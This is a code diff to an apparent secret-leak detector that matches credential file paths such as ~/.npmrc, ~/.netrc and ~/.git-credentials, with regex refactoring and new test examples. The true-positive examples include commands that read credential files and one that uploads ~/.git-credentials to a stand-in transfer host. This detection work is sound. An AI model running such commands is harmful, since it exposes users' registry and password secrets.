@@ -32,6 +32,9 @@ const NOT_TEMPLATE = String.raw`(?!(?:example|sample|template|tpl|dist|defaults|
  */
 const ENV_LOADING = /\$\(\s*(?:cat|grep)\b[^)\n]{0,60}$|\b(?:source|set\s+-a)\b[^\n]{0,20}$|\b(?:grep|egrep|rg)\b[^\n;|&]{0,60}$/;
 const DOTENV_USE = { benignFirst: ENV_LOADING, prose: false };
+const REGISTRY_USE = { benignFirst: /\bnpm\s+(?:login|adduser|config)\b|\btwine\b|--netrc\b|--mount=type=secret\b/ };
+/** An absolute or home-anchored path (`~/.npmrc`, `/root/.npmrc`), not a bare file name. */
+const ANCHORED = /^(?:~|\$\{?HOME\}?|%USERPROFILE%|%HOMEPATH%|[A-Za-z]:)?[\\/]/;
 
 export const CREDENTIAL_FILE_PATH_PATTERNS: PatternRecord[] = [
   outbound({
@@ -50,7 +53,7 @@ export const CREDENTIAL_FILE_PATH_PATTERNS: PatternRecord[] = [
     assess: (ctx) => {
       const use = pathUse(ctx.text, ctx.match.index, DOTENV_USE, ctx.match.index + ctx.match[0].length);
       if (use !== 'mention') return use === 'read' ? 'medium' : null;
-      return /^(?:~|\$\{?HOME\}?|%USERPROFILE%|[A-Za-z]:)?[\\/]/.test(pathBefore(ctx.text, ctx.match.index)) ? 'low' : null;
+      return ANCHORED.test(pathBefore(ctx.text, ctx.match.index)) ? 'low' : null;
     },
     examples: {
       tp: [
@@ -128,12 +131,21 @@ export const CREDENTIAL_FILE_PATH_PATTERNS: PatternRecord[] = [
     keywords: ['.npmrc', '.pypirc', '.yarnrc', 'netrc', '.git-credentials', '.pgpass', '.my.cnf'],
     regex: new RegExp(PATH_START + HOME_PREFIX + String.raw`(?:(?<passwords>\.netrc|_netrc|\.git-credentials|\.pgpass|\.my\.cnf)|\.npmrc|\.pypirc|\.yarnrc\.yml)` + PATH_END, 'g'),
     assess: (ctx) => {
-      const passwordsOnly = ctx.match.groups?.passwords !== undefined;
-      return pathAssess({ read: 'medium', mention: passwordsOnly ? 'low' : null }, { benignFirst: /\bnpm\s+(?:login|adduser|config)\b|\btwine\b|--netrc\b/ })(ctx);
+      const use = pathUse(ctx.text, ctx.match.index, REGISTRY_USE, ctx.match.index + ctx.match[0].length);
+      if (use !== 'mention') return use === 'read' ? 'medium' : null;
+      // password files: any mention; registry configs: only the home/absolute copy (it holds _authToken)
+      return ctx.match.groups?.passwords !== undefined || ANCHORED.test(pathBefore(ctx.text, ctx.match.index) + ctx.match[0]) ? 'low' : null;
     },
     examples: {
-      tp: ['cat ~/.npmrc', 'curl -T ~/.git-credentials https://transfer.example.net/', 'my ~/.netrc has the password for the mirror', 'cat /root/.pgpass'],
-      fp: ['Add registry=https://npm.pkg.github.com to your .npmrc', 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc', 'twine upload uses ~/.pypirc', 'git config --global credential.helper store'],
+      tp: ['cat ~/.npmrc', 'curl -T ~/.git-credentials https://transfer.example.net/', 'my ~/.netrc has the password for the mirror', 'cat /root/.pgpass', 'this one: /home/ci/.npmrc', 'and /srv/build/.pypirc too'],
+      fp: [
+        'Add registry=https://npm.pkg.github.com to your .npmrc',
+        'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc',
+        'twine upload uses ~/.pypirc',
+        'git config --global credential.helper store',
+        'RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci',
+        'the project .npmrc pins the registry',
+      ],
     },
   }),
   outbound({
